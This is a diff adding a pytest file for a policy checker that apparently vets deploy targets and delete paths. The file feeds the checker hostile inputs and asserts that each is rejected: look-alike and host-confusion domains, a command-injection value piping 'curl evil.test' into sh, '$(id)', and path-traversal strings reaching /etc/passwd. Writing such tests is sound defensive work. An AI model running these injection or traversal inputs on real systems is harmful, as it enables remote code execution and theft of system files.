@@ -1,0 +1,199 @@
+"""Cases D04 to D09 and F07: a target or a path is compared whole, never by how it begins."""
+
+from __future__ import annotations
+
+import os
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from lifecycle.policy import Level, RuleSettings
+from sentinel_rules import RuleLoadError, load_rules
+from tests.builders import NOW_MS, PROD, a_document, the_rules
+from tests.checking import found, sentinel_with
+
+
+def staging(domain: str, **parameters: Any) -> dict[str, Any]:
+    target = PROD["target"] | {"domain": domain}
+    return a_document(PROD, tool="staging-deploy", target=target, parameters=parameters)
+
+
+def deletion(**parameters: Any) -> dict[str, Any]:
+    return a_document(PROD, tool="delete-data", action_type="delete", parameters=parameters)
+
+
+@pytest.mark.parametrize(
+    "target",
+    [
+        "https://staging.shop.example@evil.test/",
+        "https://staging.shop.example.evil.test/",
+        "https://staging.shop.example:8443/",
+        "http://staging.shop.example/",
+        "//staging.shop.example",
+        "staging.shop.example:443",
+        "staging.shop.example/",
+        "www.shop.example",
+        "STAGING.shop.example",
+        "staging.shop.example.",
+        " staging.shop.example",
+        "stаging.shop.example",
+        "xn--stging-4nf.shop.example",
+        "staging.shop.example\n",
+        "staging.shop.example; curl evil.test|sh",
+        "--force",
+        "$(id)",
+        "",
+    ],
+)
+def test_D04_D05_D06_D07_D09_only_the_exact_target_passes(target: str) -> None:
+    assert found(staging(target)) == {
+        ("deploy_target_allowed", "target_not_allowed", "target.domain")
+    }
+
+
+@pytest.mark.parametrize(
+    ("parameters", "path"),
+    [
+        ({"host": "evil.test"}, "parameters.host"),
+        ({"url": "https://staging.shop.example/"}, "parameters.url"),
+        ({"options": [{"domain": "evil.test"}]}, "parameters.options[0].domain"),
+        ({"TARGET": ["staging.shop.example"]}, "parameters.TARGET"),
+        ({"hоst": "evil.test"}, 'parameters["h\\u043est"]'),
+        ({"hOST": "evil.test"}, "parameters.hOST"),
+    ],
+)
+def test_D04_the_parameters_name_the_same_place(parameters: dict[str, Any], path: str) -> None:
+    document = staging("staging.shop.example", **parameters)
+
+    assert found(document) == {("deploy_target_allowed", "target_not_allowed", path)}
+
+
+def test_D04_the_exact_target_passes() -> None:
+    assert found(staging("staging.shop.example", host="staging.shop.example", url=None)) == set()
+
+
+@pytest.mark.parametrize("targets", [{}, {"production-deploy": []}])
+def test_F07_a_deploy_tool_without_targets_deploys_nowhere(targets: dict[str, Any]) -> None:
+    rule = sentinel_with("deploy_target_allowed", targets=targets)
+
+    assert ("deploy_target_allowed", "target_not_allowed", "target.domain") in found(PROD, rule)
+
+
+@pytest.mark.parametrize(
+    "path",
+    [
+        "/srv/work/../../etc/passwd",
+        "/srv/work-evil/x",
+        "/srv/work/%2e%2e/x",
+        "/srv/work/%252e/x",
+        "a/./../..//b",
+        "..",
+        "/srv/work/a\x00b",
+        "/srv/work",
+        "/srv/work/.",
+        "/",
+        "/etc/passwd",
+        "~root/x",
+        "~/x",
+        "\\\\host\\share",
+        "old\\..\\x",
+        "C:\\x",
+        "c:x",
+        "file:///etc/passwd",
+        "//srv/work/x",
+        "/srv/work/．．/x",
+        "/srv/work／..／x",
+        "/srv/work/\u202ex",
+        " ",
+    ],
+)
+def test_D08_a_path_stays_below_the_root(path: str) -> None:
+    outside = ("blast_radius_bounded", "path_outside_root", "parameters.path")
+
+    assert outside in found(deletion(path=path))
+
+
+@pytest.mark.parametrize("path", ["/srv/work/a.csv", "/srv/work/./b//c", "old/a.csv", "a..b"])
+def test_D08_a_plain_path_below_the_root_passes(path: str) -> None:
+    assert found(deletion(path=path)) == set()
+
+
+@pytest.mark.parametrize(
+    ("parameters", "path"),
+    [
+        ({"files": ["/srv/work/a", "/etc/passwd"]}, "parameters.files[1]"),
+        ({"options": {"backup_dir": ".."}}, "parameters.options.backup_dir"),
+        ({"what": "/etc/passwd"}, "parameters.what"),
+        ({"what": [{"deep": "../x"}]}, "parameters.what[0].deep"),
+        ({"files": {"/etc/passwd": 1}}, 'parameters.files["/etc/passwd"]'),
+        ({"outputFile": ".."}, "parameters.outputFile"),
+        ({"pATH": "/etc/my file"}, "parameters.pATH"),
+        ({"source": "q1 2026/../../../etc"}, "parameters.source"),
+        ({"name": "secret dir/../../.."}, "parameters.name"),
+        ({"name": "file:///etc/my file"}, "parameters.name"),
+    ],
+)
+def test_D08_whatever_looks_like_a_path_is_one(parameters: dict[str, Any], path: str) -> None:
+    assert ("blast_radius_bounded", "path_outside_root", path) in found(deletion(**parameters))
+
+
+@pytest.mark.parametrize(
+    ("changes", "path"),
+    [
+        ({"constraints": {"path": "/etc/passwd"}}, "target.constraints.path"),
+        ({"constraints": {"only": ["x y/../.."]}}, "target.constraints.only[0]"),
+        ({"resource_id": "/etc/passwd"}, "target.resource_id"),
+        ({"resource_id": "../leads"}, "target.resource_id"),
+    ],
+)
+def test_D08_the_target_stays_below_the_root_as_well(changes: dict[str, Any], path: str) -> None:
+    document = deletion(path="old") | {"target": PROD["target"] | changes}
+
+    assert found(document) == {("blast_radius_bounded", "path_outside_root", path)}
+
+
+@pytest.mark.parametrize(
+    ("resource_id", "parameters"),
+    [
+        ("leads-2024", {"note": "old and/or unused, 50% of them"}),
+        ("crm:leads", {"when": "12/31/2026 at noon", "kind": "text/html; q=1"}),
+        ("leads/2024", {"greeting": ".. und tschüss", "why": "unused\nsee a/b"}),
+    ],
+)
+def test_D08_words_with_a_slash_are_no_way_out(
+    resource_id: str, parameters: dict[str, Any]
+) -> None:
+    target = PROD["target"] | {"resource_id": resource_id}
+
+    assert found(deletion(**parameters) | {"target": target}) == set()
+
+
+def test_D08_the_place_that_a_link_leads_to_counts(tmp_path: Path) -> None:
+    root = tmp_path / "work"
+    root.mkdir()
+    (root / "inside").mkdir()
+    (root / "out").symlink_to(tmp_path)
+    (root / "in").symlink_to(root / "inside")
+    rule = sentinel_with("blast_radius_bounded", roots={"delete-data": str(root)})
+
+    def codes(path: str) -> set[tuple[str, str, str]]:
+        return found(deletion(path=f"{root}/{path}"), rule, real_path=os.path.realpath)
+
+    assert codes("in/a.csv") == set()
+    assert codes("out/a.csv") == {("blast_radius_bounded", "path_outside_root", "parameters.path")}
+
+
+@pytest.mark.parametrize("root", ["srv/work", "/", "/srv/../etc", "/srv/work/", "//srv"])
+def test_a_root_that_is_no_plain_folder_stops_the_start(root: str) -> None:
+    settings = RuleSettings(Level.HARD, {"roots": {"delete-data": root}})
+
+    with pytest.raises(RuleLoadError, match="blast_radius_bounded"):
+        load_rules(the_rules() | {"blast_radius_bounded": settings})
+
+
+def test_production_hours_are_read_in_their_own_zone() -> None:
+    saturday_ms = NOW_MS + 5 * 86_400_000
+
+    assert found(PROD) == set()
+    assert found(PROD, now_ms=saturday_ms) == {("change_window_open", "outside_hours", "tool")}
